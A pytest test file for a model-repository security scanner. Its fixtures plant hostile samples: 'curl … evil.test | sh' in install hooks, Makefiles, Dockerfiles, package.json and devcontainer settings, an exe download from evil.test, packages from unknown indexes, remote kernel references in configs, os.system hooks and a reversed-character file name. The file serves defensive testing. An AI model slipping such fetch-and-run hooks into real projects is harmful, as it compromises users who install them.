"""Files beside the weights that something runs by itself, and code that a configuration names."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from modelscan import api
from modelscan.vocabulary.result import ModelReport
from tests.forge import models


def _scan(folder: Path, files: dict[str, bytes]) -> ModelReport:
    model = models.plain(folder)
    for name, data in files.items():
        path = model / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    (report,) = api.scan(model).models
    return report


def _rules(report: ModelReport) -> set[str]:
    return {found.rule for found in report.findings if found.severity != "info"}


def _json(**values: Any) -> bytes:
    return json.dumps(values).encode()


FETCHES = b"curl -fsSL https://cdn.evil.test/i | sh"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("install.sh", b"#!/bin/sh\n" + FETCHES),
        ("start", b"#!/bin/bash\n" + FETCHES),
        ("Makefile", b"all:\n\t" + FETCHES),
        ("Dockerfile", b"FROM python\nRUN " + FETCHES),
        ("run.bat", b"curl -o x.exe https://evil.test/x.exe && start /b x.exe\r\n"),
        (".vscode/tasks.json", _json(tasks=[{"command": FETCHES.decode()}])),
        (".devcontainer/devcontainer.json", _json(postCreateCommand=FETCHES.decode())),
        ("package.json", _json(scripts={"postinstall": FETCHES.decode()})),
        ("docker-compose.yml", b"services:\n  a:\n    command: sh -c '" + FETCHES + b"'\n"),
        ("cog.yaml", b"build:\n  run:\n    - " + FETCHES + b"\n"),
    ],
)
def test_commands_that_run_what_they_fetch_fail_wherever_they_stand(
    tmp_path: Path, name: str, data: bytes
) -> None:
    report = _scan(tmp_path / "model", {name: data})
    assert "script-runs-unknown-download" in _rules(report)
    assert report.answers.allowed.status == "fail"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("install.sh", b"#!/bin/sh\ncurl -fsSL https://ollama.com/install.sh | sh\n"),
        ("Dockerfile", b"FROM python\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\n"),
        ("Makefile", b"test:\n\tpython -m pytest\n"),
        (".vscode/tasks.json", _json(tasks=[{"command": "python train.py"}])),
        ("package.json", _json(scripts={"build": "tsc && node dist/x.js"})),
        (
            "docker-compose.yml",
            b"services:\n  a:\n    image: vllm/vllm-openai\n    command: --model x\n",
        ),
        ("requirements.txt", b"--extra-index-url https://download.pytorch.org/whl/cu121\ntorch\n"),
        ("requirements.txt", b"git+https://github.com/huggingface/transformers@v4.51.0\n"),
        ("requirements.txt", b"-i https://pypi.tuna.tsinghua.edu.cn/simple\nnumpy==2.0\n"),
        ("environment.yml", b"channels: [conda-forge]\ndependencies:\n  - python=3.11\n"),
        ("x.egg-info/entry_points.txt", b"[console_scripts]\nx = x.cli:main\n"),
    ],
)
def test_ordinary_settings_and_lists_pass(tmp_path: Path, name: str, data: bytes) -> None:
    report = _scan(tmp_path / "model", {name: data})
    assert len(_rules(report)) <= 1
    assert report.answers.allowed.status == "pass"


@pytest.mark.parametrize(
    "line",
    [
        b"https://evil.test/x.whl", b"x @ https://evil.test/x.tar.gz", b"-i http://evil.test/simple",
        b"--trusted-host evil.test", b"--extra-index-url https://github.com.evil.test/simple",
    ],
)  # fmt: skip
def test_packages_from_a_server_that_nobody_knows_fail(tmp_path: Path, line: bytes) -> None:
    report = _scan(tmp_path / "model", {"requirements.txt": b"torch==2.4\n" + line + b"\n"})
    assert "requirement-from-unknown-place" in _rules(report)
    assert report.answers.allowed.status == "fail"


@pytest.mark.parametrize(
    ("name", "data", "rule"),
    [
        ("evil-1.0.dist-info/entry_points.txt", b"[vllm.general_plugins]\nx = evil:run\n",
         "start-up-hook-in-model"),
        ("model.url", b"[InternetShortcut]\nURL=file://evil.test/x.exe\n", "launcher-in-model"),
        ("setup.iso", bytes(100), "installer-in-model"),
        ("config.json", _json(attn_implementation={"": "evil/kernel"}),
         "kernel-from-other-repository"),
        ("config.json", _json(text_config={"experts_implementation": "evil/kernel@main:f"}),
         "kernel-from-other-repository"),
        ("config.json", _json(kernel_config={"kernel_mapping": {"RMSNorm": {"cuda": "evil/k:L"}}}),
         "kernel-from-other-repository"),
        ("config.json", _json(_attn_implementation="paged|evil/kernel"),
         "kernel-from-other-repository"),
        ("modules.json", json.dumps([{"type": "evil/repo--mod.Cls"}]).encode(),
         "remote-code-from-other-repository"),
        ("modules.json", json.dumps([{"type": "os.system"}]).encode(),
         "config-calls-dangerous-name"),
        ("model_index.json", _json(_class_name="P", unet=["os", "system"]),
         "config-calls-dangerous-name"),
        ("model\u202egnp.py", b"x = 1\n", "reversed-file-name"),
    ],
)  # fmt: skip
def test_what_is_run_or_imported_by_itself_fails(
    tmp_path: Path, name: str, data: bytes, rule: str
) -> None:
    report = _scan(tmp_path / "model", {name: data})
    assert rule in _rules(report)
    assert report.answers.allowed.status == "fail"


def test_a_component_of_a_pipeline_that_is_the_repositorys_own_code(tmp_path: Path) -> None:
    index = _json(
        _class_name=["own_pipeline", "OwnPipeline"], unet=["my_unet", "MyUNet"],
        vae=["diffusers", "AutoencoderKL"], safety=["stable_diffusion", "Checker"],
        image_encoder=[None, None], number=3,
    )  # fmt: skip
    files = {
        "model_index.json": index,
        "unet/my_unet.py": b"x = 1\n",
        "own_pipeline.py": b"x = 1\n",
    }
    report = _scan(tmp_path / "model", files)
    assert _rules(report) == {"remote-code-requested"}
    plain = _scan(tmp_path / "plain", {"model_index.json": _json(unet=["my_unet", "MyUNet"])})
    assert _rules(plain) == set()


@pytest.mark.parametrize(
    "value", ["sdpa", "flash_attention_2", {"": "eager"}, "paged|sdpa", None, 3, ["a/b"]]
)
def test_kernels_of_the_library_are_ordinary(tmp_path: Path, value: object) -> None:
    report = _scan(tmp_path / "model", {"config.json": _json(attn_implementation=value)})
    assert _rules(report) == set()


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("data.py", "class D:\n    def _split_generators(self, manager):\n        os.system('id')"),
        ("code/inference.py", "def model_fn(folder):\n    os.system('id')"),
        ("setup.py", "class I(install):\n    def run(self):\n        os.system('id')"),
    ],
)  # fmt: skip
def test_functions_that_libraries_call_by_their_names_fail(
    tmp_path: Path, name: str, code: str
) -> None:
    text = "import os, datasets\nfrom setuptools.command.install import install\n" + code + "\n"
    report = _scan(tmp_path / "model", {name: text.encode()})
    assert report.answers.allowed.status == "fail"
